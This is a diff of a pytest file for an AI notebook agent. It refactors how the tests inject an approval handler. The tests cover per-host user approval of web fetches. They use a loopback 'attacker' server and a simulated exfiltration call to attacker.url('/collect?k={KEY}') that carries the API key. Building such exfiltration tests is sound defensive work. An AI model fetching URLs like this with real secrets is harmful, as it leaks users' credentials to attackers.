@@ -10,14 +10,15 @@ before any DNS lookup. A yes "for this session" covers that host only.
 
 from __future__ import annotations
 
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
 from fake_anthropic import FakeAnthropic, Reply, result_text, text, tool_results, tool_use
 from loopback_web import LoopbackServer
 
-from jupyter_agent.approvals import ApprovalRequest, Decision
+from jupyter_agent.approvals import ApprovalHandler, ApprovalRequest, Decision
+from jupyter_agent.notebook.runtime.bridge import MainThreadBridge
 from jupyter_agent.notebook.session.session import NotebookSession, SessionSettings
 from jupyter_agent.providers.anthropic import AnthropicProvider
 
@@ -33,12 +34,17 @@ def attacker() -> Iterator[LoopbackServer]:
         server.close()
 
 
-def make_session(tmp_path: Path, **settings: object) -> NotebookSession:
+def make_session(
+    tmp_path: Path,
+    approvals: Callable[[MainThreadBridge], ApprovalHandler] | None = None,
+    **settings: object,
+) -> NotebookSession:
     (tmp_path / ".env").write_text(f"ANTHROPIC_API_KEY={KEY}\n")
     return NotebookSession(
         SessionSettings(workspace=str(tmp_path), allow_private_network=True, **settings),  # type: ignore[arg-type]
         namespace={},
         notify=lambda _line: None,
+        approvals=approvals,
     )
 
 
@@ -91,8 +97,7 @@ def test_the_user_is_asked_per_host_and_a_no_sends_nothing(
     tmp_path: Path, attacker: LoopbackServer
 ) -> None:
     asked: list[ApprovalRequest] = []
-    session = make_session(tmp_path)
-    session._make_approvals = lambda _bridge: approver([Decision(False, "no")], asked)
+    session = make_session(tmp_path, lambda _bridge: approver([Decision(False, "no")], asked))
     try:
         run(session, *exfiltration(attacker.url(f"/collect?k={KEY}")))
     finally:
@@ -106,9 +111,8 @@ def test_yes_for_this_session_covers_that_host_only(
     tmp_path: Path, attacker: LoopbackServer
 ) -> None:
     asked: list[ApprovalRequest] = []
-    session = make_session(tmp_path)
     answers = [Decision(True, remember=True), Decision(False, "not that one")]
-    session._make_approvals = lambda _bridge: approver(answers, asked)
+    session = make_session(tmp_path, lambda _bridge: approver(answers, asked))
     calls = [
         tool_use("toolu_1", "web_fetch", {"url": attacker.url("/json")}),
     ]
